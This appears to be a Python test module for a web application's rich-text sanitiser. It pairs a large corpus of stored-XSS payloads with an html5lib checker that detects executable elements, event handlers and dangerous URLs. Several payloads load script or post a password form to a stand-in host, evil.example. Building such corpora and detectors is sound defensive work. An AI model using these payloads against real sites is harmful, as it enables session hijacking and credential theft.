# ruff: noqa: E501 (a payload reads best whole, on one line)
"""Hostile rich text (issue #8, "Stored-XSS corpus") and a checker that finds
anything executable in HTML, parsed as a browser parses it (html5lib).

Shared with the browser tests, which load the same payloads in Chromium:
`PAYLOADS` is a list of (name, html); `executable_parts(html)` lists what in an
HTML fragment could run script or change where the page sends things.
"""

import json
import re

import html5lib

PAYLOADS = [
    # --- <script>, in every spelling ---
    ("script", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-slash-src", "<script/src=//evil.example/x.js></script>"),
    ("script-spaces", "<script >alert(1)</script >"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-double-open", "<<script>alert(1)//<</script>"),
    ("script-module", "<script type=\"module\">import('//evil.example/x')</script>"),
    ("script-after-text", "<p>Fine text.</p><script defer>alert(1)</script>"),
    ("script-unclosed", "<p>Text<script>alert(1)"),
    ("script-in-template", "<template><script>alert(1)</script></template>"),
    (
        "script-xhtml-ns",
        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">1</x:script>',
    ),
    ("attribute-breakout", '"><script>alert(1)</script>'),
    # --- Event handlers ---
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-upper", '<img src="x" ONERROR="alert(1)">'),
    ("img-onerror-entities", '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">'),
    ("img-slashes", '<img/src="x"/onerror=alert(1)>'),
    ("img-newline-attr", "<img src=x\nonerror=alert(1)>"),
    ("img-quote-mess", '<img """><script>alert(1)</script>">'),
    ("body-onload", "<body onload=alert(1)>"),
    ("p-onclick", '<p onclick="alert(1)">Click me</p>'),
    ("a-onmouseover", '<a href="https://example.org/" onmouseover="alert(1)">x</a>'),
    ("div-autofocus", "<div onfocus=alert(1) tabindex=0 autofocus>x</div>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    (
        "details-ontoggle",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
    ),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)></audio>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    (
        "figure-class-onclick",
        '<figure class="image" onclick="alert(1)"><img src=x></figure>',
    ),
    (
        "table-background",
        '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    ),
    ("double-open-img", "<<img src=x onerror=alert(1)//<"),
    # --- javascript:, data:, vbscript: URLs, obfuscated ---
    ("href-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("href-javascript-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("href-leading-space", '<a href=" javascript:alert(1)">x</a>'),
    ("href-tab-entity", '<a href="java&#x09;script:alert(1)">x</a>'),
    ("href-newline-entity", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
    ("href-literal-newline", '<a href="java\nscript:alert(1)">x</a>'),
    (
        "href-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;'
        '&#112;&#116;&#58;alert(1)">x</a>',
    ),  # fmt: skip
    ("href-hex-colon-entity", '<a href="&#x6A;avascript&colon;alert(1)">x</a>'),
    ("href-colon-entity", '<a href="javascript&#58;alert(1)">x</a>'),
    ("href-control-char", '<a href="\x01javascript:alert(1)">x</a>'),
    ("href-js-comment", '<a href="javascript://%0Aalert(1)">x</a>'),
    (
        "href-data-html",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    ),  # fmt: skip
    (
        "img-data-svg",
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    ),
    ("href-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("href-vbscript-case", '<a href="VBScript:msgbox(1)">x</a>'),
    ("href-livescript", '<a href="livescript:alert(1)">x</a>'),
    ("img-src-javascript", '<img src="javascript:alert(1)">'),
    ("img-srcset-javascript", '<img src="/x.png" srcset="javascript:alert(1) 1x">'),
    ("blockquote-cite", '<blockquote cite="javascript:alert(1)">q</blockquote>'),
    ("q-cite-data", '<q cite="data:text/html,<script>alert(1)</script>">q</q>'),
    # --- SVG and MathML ---
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    (
        "svg-xlink",
        '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    ),  # fmt: skip
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    (
        "svg-set-href",
        '<svg><a><set attributeName="href" to="javascript:alert(1)"/>'
        "<text y=20>x</text></a></svg>",
    ),  # fmt: skip
    (
        "svg-use-data",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' "
        "xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/>"
        '</svg>#x"></use></svg>',
    ),  # fmt: skip
    (
        "svg-foreignobject",
        '<svg><foreignObject><iframe srcdoc="<script>alert(1)'
        '</script>"></iframe></foreignObject></svg>',
    ),  # fmt: skip
    ("svg-style-import", "<svg><style>@import url(javascript:alert(1))</style></svg>"),
    ("math-href", '<math href="javascript:alert(1)">x</math>'),
    (
        "math-maction",
        '<math><maction actiontype="statusline#" '
        'xlink:href="javascript:alert(1)">x</maction></math>',
    ),  # fmt: skip
    (
        "math-mglyph-style",
        "<math><mtext><table><mglyph><style><img src=x "
        "onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),  # fmt: skip
    # --- Changing the page's base, refreshing, posting elsewhere ---
    ("base-href", '<base href="https://evil.example/">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("meta-csp", '<meta http-equiv="Content-Security-Policy" content="script-src *">'),
    ("meta-charset", '<meta charset="x-imap4-modified-utf7">'),
    (
        "form-phishing",
        '<form action="https://evil.example/steal"><input '
        'name="password" type="password"><button>Log in</button></form>',
    ),  # fmt: skip
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("input-image", '<input type="image" src="x" onerror="alert(1)">'),
    ("isindex", '<isindex action="javascript:alert(1)" type="image">'),
    ("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
    ("link-import", '<link rel="import" href="https://evil.example/x.html">'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed-src", '<embed src="data:text/html,<script>alert(1)</script>">'),
    ("iframe-src", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("iframe-onload", "<iframe onload=alert(1)></iframe>"),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("applet", '<applet code="Evil.class"></applet>'),
    # --- CSS ---
    ("style-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("style-url-javascript", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style-element", '<style>body{background:url("javascript:alert(1)")}</style>'),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("style-behavior", '<p style="behavior: url(x.htc)">x</p>'),
    (
        "style-moz-binding",
        '<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>',
    ),
    ("style-comment-split", '<img src="/x.png" style="x:expr/**/ession(alert(1))">'),
    # --- Broken nesting, comments, CDATA, raw-text elements ---
    ("comment-script", "<p>text<!-- <script>alert(1)</script> --></p>"),
    ("conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("cdata-then-script", "<p><![CDATA[]]><script>alert(1)</script></p>"),
    ("comment-bang-close", "<!-- --!><script>alert(1)</script> -->"),
    ("stray-close-p", "<p>a</p></p><script>alert(1)</script>"),
    ("table-script", "<table><tr><td><script>alert(1)</script></table>"),
    ("nested-anchors", '<a href="/x"><a href="javascript:alert(1)">nested</a></a>'),
    ("title-attr-breakout", '<p title="</p><script>alert(1)</script>">x</p>'),
    (
        "noscript-mxss",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ),  # fmt: skip
    ("textarea-breakout", "<textarea></textarea><script>alert(1)</script>"),
    ("title-element", "<title><script>alert(1)</script></title>"),
    ("xmp", "<xmp><script>alert(1)</script></xmp>"),
    ("plaintext", "<plaintext><script>alert(1)</script>"),
    ("noembed", "<noembed><img src=x onerror=alert(1)></noembed>"),
    (
        "select-template",
        "<select><template><img src=x onerror=alert(1)></template></select>",
    ),  # fmt: skip
    ("xml-stylesheet-pi", '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>'),
    ("closing-script-in-text", "<p>&lt;/script&gt;&lt;script&gt;alert(1)</p>"),
    ("null-byte-tag", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
]

# Elements that never belong in stored rich text: they run script, load
# active content, restyle the page, or send data (or the reader) elsewhere.
FORBIDDEN_ELEMENTS = {
    "script", "style", "base", "meta", "link", "form", "input", "button",
    "select", "textarea", "isindex", "iframe", "frame", "frameset", "object",
    "embed", "applet", "svg", "math", "template", "noscript", "title",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "background", "poster",
    "cite", "longdesc", "lowsrc", "dynsrc", "srcset", "ping", "codebase",
    "manifest", "icon", "profile", "usemap", "archive", "classid", "code",
}  # fmt: skip
DANGEROUS_SCHEME = re.compile(r"^(?:javascript|vbscript|livescript|data):")
# Browsers ignore these anywhere in a URL's scheme (tab, newline, NUL…).
IGNORED_IN_SCHEME = re.compile(r"[\x00-\x20\x7f]+")


def local_name(tag):
    return tag.rsplit("}", 1)[-1].lower() if isinstance(tag, str) else ""


def is_dangerous_url(value):
    candidates = [part.strip().split(" ")[0] for part in value.split(",")]
    for url in [value, *candidates]:
        if DANGEROUS_SCHEME.match(IGNORED_IN_SCHEME.sub("", url).lower()):
            return True
    return False


def describe(element):
    """What an element is, for reports: tag plus the attributes that matter."""
    keys = ("src", "type", "rel", "http-equiv", "name", "property", "action")
    shown = {k: element.get(k) for k in keys if element.get(k) is not None}
    return (local_name(element.tag), tuple(sorted(shown.items())))


def findings(root):
    """Everything executable or page-altering under an html5lib tree: forbidden
    elements, event-handler and style attributes, dangerous URLs."""
    found = []
    for element in root.iter():
        tag = local_name(element.tag)
        if not tag:
            continue  # comments
        if tag in FORBIDDEN_ELEMENTS:
            found.append(("element", *describe(element)))
        for raw_name, value in element.attrib.items():
            name = local_name(raw_name)
            if name.startswith("on"):
                found.append(("handler", tag, name))
            elif name in {"style", "srcdoc"}:
                found.append((name, tag))
            elif name in URL_ATTRIBUTES and is_dangerous_url(value or ""):
                found.append(("url", tag, name))
    return found


def parse_document(html):
    return html5lib.parse(html, namespaceHTMLElements=False)


def executable_parts(html):
    """findings() for an HTML fragment, such as a stored post body, read inside
    a page as the site embeds it (an unclosed tag swallows the markup after it;
    <body onload> lands on the page's own body): for rich text, anything at all
    is too much."""
    page = f"<!DOCTYPE html><head></head><body><div>{html}</div><p>After</p>"
    return findings(parse_document(page))


def page_additions(page_html, baseline_html):
    """What `page_html` has that a page of the same kind with harmless content
    (`baseline_html`) does not: the site's own scripts, meta and link tags are
    on both, so only what the hostile content brought in remains."""
    counts = {}
    for item in findings(parse_document(baseline_html)):
        counts[item] = counts.get(item, 0) + 1
    extra = []
    for item in findings(parse_document(page_html)):
        if counts.get(item):
            counts[item] -= 1
        else:
            extra.append(item)
    return extra


def json_ld_blocks(page_html):
    """The page's JSON-LD, parsed: a payload that broke out of it would make
    the block unparseable or add a script element page_additions() reports."""
    blocks = []
    for element in parse_document(page_html).iter("script"):
        if element.get("type") == "application/ld+json":
            blocks.append(json.loads(element.text or ""))
    return blocks
